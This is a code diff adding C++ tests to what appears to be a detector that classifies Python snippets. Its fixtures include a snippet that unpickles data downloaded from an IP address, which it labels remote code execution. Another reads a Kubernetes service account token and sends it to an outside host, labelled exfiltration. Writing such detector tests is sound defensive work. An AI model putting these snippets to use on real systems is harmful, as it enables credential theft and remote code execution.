@@ -103,6 +103,31 @@ TEST(Mechanisms, FileContentFlowsThroughPaths) {
   for (const auto& c : cases) check(c);
 }
 
+TEST(Mechanisms, UnpicklingDownloadedDataRunsIt) {
+  const Case cases[] = {
+      {"pickle.loads of a download", B,
+       "import pickle, urllib.request\nobj = pickle.loads(urllib.request.urlopen('http://203.0.113.4/o.pkl').read())\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"pickle of a hidden constant", B, "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAAA='))\n"},
+      {"pickle of its own cache file stays an insecure practice", M,
+       "import pickle\nwith open('cache.pkl', 'rb') as f:\n    state = pickle.load(f)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+TEST(Mechanisms, HotKeysAreNotKeylogging) {
+  check({"global hot keys", L,
+         "from pynput import keyboard\ndef on():\n    print('toggle')\n"
+         "with keyboard.GlobalHotKeys({'<ctrl>+<alt>+d': on}) as h:\n    h.join()\n"});
+}
+
+TEST(Mechanisms, ServiceAccountTokensAreCredentials) {
+  check({"a pod's token sent out", B,
+         "import requests\ntok = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n"
+         "requests.get('http://198.51.100.8/t', params={'t': tok})\n",
+         "EXFILTRATION"});
+}
+
 TEST(Mechanisms, CharacterSetsDecodeThroughIconv) {
   auto d = decode_codec(std::string("\x85\xa5\x81\x93"), "cp1026");
   ASSERT_TRUE(d.has_value());
